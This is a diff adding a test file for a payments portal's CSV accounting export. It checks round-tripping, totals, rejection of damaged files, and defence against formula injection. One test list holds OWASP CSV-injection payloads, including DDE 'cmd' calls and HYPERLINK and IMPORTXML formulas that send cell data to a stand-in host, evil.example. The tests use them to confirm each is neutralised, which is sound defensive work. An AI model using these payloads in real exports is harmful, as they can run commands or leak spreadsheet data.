@@ -1,0 +1,240 @@
+import { parse as parseCsv } from 'csv-parse/sync'
+import fc from 'fast-check'
+import Papa from 'papaparse'
+import { describe, expect, test } from 'vitest'
+import { anyAccountingFile, row } from '../../../tests/support/accountingFiles.ts'
+import { propertyRuns } from '../../../tests/support/propertyRuns.ts'
+import { SAFE } from '../../../tests/support/safeExamples.ts'
+import type { AccountingFile } from './AccountingFile.ts'
+import { accountingTotals } from './accountingTotals.ts'
+import { readAccounting } from './readAccounting.ts'
+import { accountingFileName, accountingText } from './writeAccounting.ts'
+
+const file = (some: Partial<AccountingFile>): AccountingFile => ({
+  account: SAFE,
+  writtenAt: 1_795_165_200_000,
+  partial: [],
+  notes: [],
+  rows: [],
+  ...some,
+})
+
+/** The cells of a text as two programs that know nothing of this portal read them. */
+const readers = {
+  papaparse: (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data,
+  'csv-parse': (text: string) => parseCsv(text, { bom: true }) as string[][],
+}
+
+/** What a spreadsheet would run, by OWASP's rule and nothing of this portal: `T-11` of the threat list. */
+function isRun(cell: string): boolean {
+  const first = cell.replace(/^["\s\u200b\ufeff]+/, '').normalize('NFKC')[0] ?? ''
+  return '=+-@|%'.includes(first || ' ') || /^[\t\r\n\0]/.test(cell)
+}
+
+/** Bytes and back, as a file is saved and opened. */
+const saved = (text: string) =>
+  new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(new TextEncoder().encode(text))
+
+test('behavior: what is written is read back exactly', async () => {
+  await fc.assert(
+    fc.asyncProperty(anyAccountingFile, async (written) => {
+      expect(await readAccounting(saved(accountingText(written)))).toEqual({ ok: true, file: written })
+    }),
+    propertyRuns(5_000),
+  )
+})
+
+test('behavior: no cell can be run as a formula, whichever program reads the file', () => {
+  fc.assert(
+    fc.property(anyAccountingFile, (written) => {
+      const text = accountingText(written)
+      for (const read of Object.values(readers)) {
+        const cells = read(text)
+        expect(cells.length).toBe(6 + written.partial.length + written.notes.length + written.rows.length)
+        expect(cells.flat().filter(isRun)).toEqual([])
+      }
+    }),
+    propertyRuns(5_000),
+  )
+})
+
+test('behavior: totals are those of an independent sum, for each token, direction and status', () => {
+  const keyOf = (part: Pick<AccountingFile['rows'][number], 'token' | 'direction' | 'status'>) =>
+    `${part.token.address} ${part.token.symbol} ${part.token.decimals} ${part.direction} ${part.status}`
+  fc.assert(
+    fc.property(anyAccountingFile, ({ rows }) => {
+      const totals = accountingTotals(rows)
+      const expected = new Map<string, bigint>()
+      for (const each of rows) expected.set(keyOf(each), 0n)
+      for (const each of rows) expected.set(keyOf(each), (expected.get(keyOf(each)) ?? 0n) + each.value)
+      expect(new Map(totals.map((total) => [keyOf(total), total.value]))).toEqual(expected)
+      expect(totals.reduce((sum, { count }) => sum + count, 0)).toBe(rows.length)
+    }),
+    propertyRuns(500),
+  )
+})
+
+// https://owasp.org/www-community/attacks/CSV_Injection and the payloads that are passed around with it.
+test.each([
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!D2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '|calc',
+  "%0A-3+3+cmd|' /C calc'!D2",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  ' =1+1',
+  '"=1+1',
+  "'=1+1",
+  "''=1+1",
+  '\u00a0\u200b=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '｜calc',
+  '％0A',
+  '⁺1',
+  '⩵1',
+  '−1',
+  '“=1+1”',
+])('behavior: %j cannot be run as a memo, and comes back as it was', async (memo) => {
+  const text = accountingText(file({ rows: [row({ memo })] }))
+  for (const read of Object.values(readers)) expect(read(text).flat()).toContain(`'${memo}`)
+  expect(await readAccounting(text)).toMatchObject({ ok: true, file: { rows: [{ memo }] } })
+})
+
+test.each(["it's", "'quoted'", '"quoted"', 'a=b', '","=1+1', '1-1', '0x12', ''])(
+  'behavior: %j is no formula and gets no mark',
+  async (memo) => {
+    const text = accountingText(file({ rows: [row({ memo })] }))
+    for (const read of Object.values(readers)) expect(read(text).flat()).toContain(memo)
+    expect(await readAccounting(text)).toMatchObject({ ok: true, file: { rows: [{ memo }] } })
+  },
+)
+
+test('behavior: an amount keeps all its decimals and is plain', () => {
+  const text = accountingText(file({ rows: [row({ value: 123_456_789_000_000_000_000_000_001n })] }))
+  expect(text).toContain('"123456789.000000000000000001"')
+})
+
+test('behavior: a file begins with a byte order mark, quotes every cell, ends lines as CSV does, and explains its marks', () => {
+  const text = accountingText(
+    file({ notes: ['2 suspicious transfers are not in this file.'], rows: [row({}), row({})] }),
+  )
+  expect(text.startsWith('\ufeff"')).toBe(true)
+  expect(text.endsWith('"\r\n')).toBe(true)
+  expect(text.replace(/"[^"]*"/g, 'x').replaceAll('\ufeff', '')).toMatch(/^(x(,x){14}\r\n){9}$/)
+  expect(text).toContain("starts with one ' that is not part of its text")
+  expect(text).toContain('2 suspicious transfers are not in this file.')
+})
+
+describe('a partial file', () => {
+  const partial = file({ partial: ['Only since block 5.', 'The service has more.'] })
+
+  test('behavior: says so before anything else', () => {
+    const lines = accountingText(partial).split('\r\n')
+    expect(lines[1]).toContain('"# PARTIAL: payments may be missing","Only since block 5."')
+    expect(lines[2]).toContain('"# PARTIAL: payments may be missing","The service has more."')
+  })
+
+  test('behavior: has it in its name', () => {
+    expect(accountingFileName(partial)).toBe(`portal-${SAFE.toLowerCase()}-2026-11-20-partial.csv`)
+    expect(accountingFileName(file({}))).toBe(`portal-${SAFE.toLowerCase()}-2026-11-20.csv`)
+  })
+})
+
+describe('what is read again', () => {
+  const text = accountingText(file({ rows: [row({ memo: 'two\r\nlines' }), row({}), row({})] }))
+  const lines = text.split('\r\n')
+  const changed = (from: string | RegExp, to: string) => text.replace(from, to)
+
+  test('behavior: may have lost its mark of UTF-8, and its line ends by copying', async () => {
+    const copied = text.slice(1).replaceAll('\r\n', '\n')
+    const read = await readAccounting(copied)
+    expect(read).toMatchObject({ ok: true, file: { rows: [{ memo: 'two\nlines' }, {}, {}] } })
+  })
+
+  test.each([
+    ['nothing', '', 1, 'not an accounting file'],
+    ['another program’s file', 'date,amount\r\n2026,1\r\n', 1, 'not an accounting file'],
+    ['a quoted file of another program', '"date","amount"\r\n', 1, 'not an accounting file'],
+    ['a page', '<!doctype html>', 1, 'not an accounting file'],
+    ['a newer file', changed('"version 1"', '"version 2"'), 1, 'newer portal'],
+    ['a file without quotes', text.replaceAll('"', ''), 1, 'not an accounting file'],
+    ['an unknown line', changed('# Marking', '# Other'), 4, 'writes no such line'],
+    ['a changed title', changed('"Amount"', '"Sum"'), 5, 'writes no such line'],
+    ['an amount with a comma', changed('"0.00000000000000001"', '"0,1"'), 6, 'Amount is not a plain'],
+    [
+      'an amount in scientific notation',
+      changed('"0.00000000000000001"', '"1E-17"'),
+      6,
+      'Amount is not a plain',
+    ],
+    ['a negative amount', changed('"0.00000000000000001"', '"\'-1"'), 6, 'Amount is not a plain'],
+    ['an unmarked formula', changed('"0.00000000000000001"', '"-1"'), 6, 'not marked'],
+    ['too many decimals', changed('"0.00000000000000001"', '"0.1000000000000000001"'), 6, 'more decimals'],
+    ['a zero at the end', changed('"0.00000000000000001"', '"0.10"'), 6, 'Amount is not a plain'],
+    ['a huge amount', changed('"0.00000000000000001"', `"${'9'.repeat(78)}"`), 6, 'larger than'],
+    ['another date', changed('2026-11-20T09:00:00.000Z', '20.11.2026'), 3, 'Written is not a time'],
+    ['a changed checksum', changed(/"0x90F79/, '"0x90f79'), 6, 'checksummed'],
+    ['another token', changed('"USDT"', '"USDC"'), 6, 'Token is not USDT'],
+    ['another number of decimals', changed('"18"', '"6"'), 6, 'Token is not USDT'],
+    ['a direction', changed('"in"', '"up"'), 6, 'Direction'],
+    ['a hash', changed(/"0x[0-9a-f]{64}"/, '"0x12"'), 6, 'hash'],
+    [
+      'a rewritten line',
+      lines.map((line, at) => (at === 7 ? line.replaceAll('"', '') : line)).join('\r\n'),
+      8,
+      'written the file anew',
+    ],
+    ['an open quote', changed('"two', 'two'), 6, 'written the file anew'],
+    [
+      'a missing line',
+      lines.filter((_, at) => at !== 7).join('\r\n'),
+      9,
+      'says that it has 3 payments, and 2',
+    ],
+    ['a line too many', `${text}${lines[8]}\r\n`, 11, 'behind the end'],
+    ['a file that was cut off', lines.slice(0, 8).join('\r\n'), 9, 'ends too early'],
+    ['a file that was cut off in a line', text.slice(0, -30), 10, 'written the file anew'],
+  ])('error: %s is refused, with line and reason', async (_, damaged, line, reason) => {
+    expect(damaged).not.toBe(text)
+    const read = await readAccounting(damaged)
+    expect(read.ok).toBe(false)
+    if (read.ok) return
+    expect(read.faults[0]).toEqual({ line, reason: expect.stringContaining(reason) })
+  })
+
+  test('error: every bad line of a file is named', async () => {
+    const read = await readAccounting(text.replaceAll('"in"', '"up"'))
+    expect(read).toMatchObject({ ok: false, faults: [{ line: 6 }, { line: 8 }, { line: 9 }, { line: 10 }] })
+  })
+
+  test('error: a changed character never changes a payment in silence into what is not a payment', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.nat({ max: text.length - 1 }),
+        fc.string({ minLength: 1, maxLength: 2 }),
+        async (at, put) => {
+          const damaged = text.slice(0, at) + put + text.slice(at + 1)
+          const read = await readAccounting(damaged)
+          // Whatever is accepted is exactly what the portal would have written.
+          if (read.ok)
+            expect(`\ufeff${accountingText(read.file).slice(1)}`).toBe(
+              damaged.startsWith('\ufeff') ? damaged : `\ufeff${damaged}`,
+            )
+        },
+      ),
+      propertyRuns(1_000),
+    )
+  })
+})
